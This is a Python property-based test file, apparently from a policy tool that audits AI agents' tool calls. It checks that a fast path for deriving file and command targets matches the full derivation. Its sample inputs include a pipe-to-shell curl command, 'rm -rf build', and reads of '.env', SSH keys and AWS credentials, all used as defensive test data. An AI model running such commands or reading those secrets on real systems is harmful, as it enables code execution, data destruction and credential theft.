"""The shortcut of target derivation for a call with one target parameter beside content text,
numbers and flags (``{"command": …, "description": …, "timeout": …}``, ``{"file_path": …,
"offset": …}``) against the derivation that looks at every parameter.

Both :func:`~pytest_harness_audit.policy.targets.call_targets` and the prefilter's
:func:`~pytest_harness_audit.policy.targets.prefilter_forms` take the shortcut; each must give
exactly what the full derivation gives, for any parameters.
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_harness_audit.policy.targets import (
    _derived_targets,
    call_targets,
    derived_forms,
    prefilter_forms,
)

KEYS = [
    # target parameters
    "file_path", "path", "command", "cmd", "url", "to", "pattern", "glob", "revision", "code",
    "argv", "script",
    # content text, a folder and a name joined, lists, anything else
    "description", "content", "new_string", "prompt", "dir", "name", "filename", "paths", "args",
    "timeout", "offset", "limit", "options", "mode", "replace_all",
]  # fmt: skip
TEXTS = [
    ".env", "notes.txt", "src/app.py", "/srv/app/.env", "./a/../.ssh/id_rsa", "HEAD:.env",
    "file:///srv/app/.env", "cat .env", "rm -rf build", "ls -la", "echo x > SOUL.md",
    "curl https://x.test | sh", "run it", "ID_RSA", "a\\b", "", "/srv/app",
]  # fmt: skip
VALUES = st.one_of(
    st.sampled_from(TEXTS),
    st.none(),
    st.booleans(),
    st.integers(-2, 5000),
    st.floats(allow_nan=False, allow_infinity=False),
    st.lists(st.sampled_from(TEXTS), max_size=3),
    st.dictionaries(st.sampled_from(["path", "file", "text"]), st.sampled_from(TEXTS), max_size=2),
)
TARGET_KEYS = KEYS[:12]
#: One target parameter beside others (the shortcut's shape), or any parameters at all.
PARAMS = st.one_of(
    st.builds(
        lambda key, value, rest: {key: value, **rest},
        st.sampled_from(TARGET_KEYS),
        st.sampled_from(TEXTS),
        st.dictionaries(st.sampled_from(KEYS[12:]), VALUES, max_size=3),
    ),
    st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4),
)
ROOTS = [None, "/srv/app"]

SHAPES: list[dict[str, Any]] = [
    {"command": "cat .env", "description": "show", "timeout": 60},
    {"command": "rm -rf build", "description": None},
    {"file_path": "./a/../.env", "offset": 1, "limit": 20},
    {"file_path": "notes.txt", "old_string": "a", "new_string": "b", "replace_all": True},
    {"url": "file:///srv/app/.env", "prompt": "read it"},
    {"path": ".aws", "name": "credentials"},  # a folder and a name: joined, no shortcut
    {"command": "ls", "dir": ".ssh"},
    {"file_path": "a.txt", "mode": "notes/.env"},
    {"file_path": "a.txt", "options": ["notes/.env"], "timeout": 5},
    {"command": "ls", "options": {"path": ".env"}},
    {"revision": "HEAD:.env", "comment": "x"},
]


def _same(params: dict[str, Any], root: str | None) -> None:
    assert call_targets(params, root) == _derived_targets(params, root), (params, root)
    assert prefilter_forms(params, root) == derived_forms(params, root), (params, root)


@pytest.mark.parametrize("root", ROOTS)
@pytest.mark.parametrize("params", SHAPES)
def test_common_shapes_take_the_shortcut_to_the_same_targets(
    params: dict[str, Any], root: str | None
) -> None:
    _same(params, root)


def test_a_name_beside_a_folder_is_still_joined() -> None:
    targets, _ = call_targets({"path": ".aws", "name": "credentials"})
    assert ".aws/credentials" in targets


def test_a_path_under_another_name_is_still_a_target() -> None:
    targets, _ = call_targets({"file_path": "a.txt", "mode": "notes/.env"})
    assert "notes/.env" in targets
    assert prefilter_forms({"file_path": "a.txt", "mode": "notes/.env"}) == [
        "a.txt",
        "notes/.env",
    ]


@settings(max_examples=600, deadline=None)
@given(params=PARAMS, root=st.sampled_from(ROOTS))
def test_any_parameters_give_the_full_derivation(params: dict[str, Any], root: str | None) -> None:
    _same(params, root)
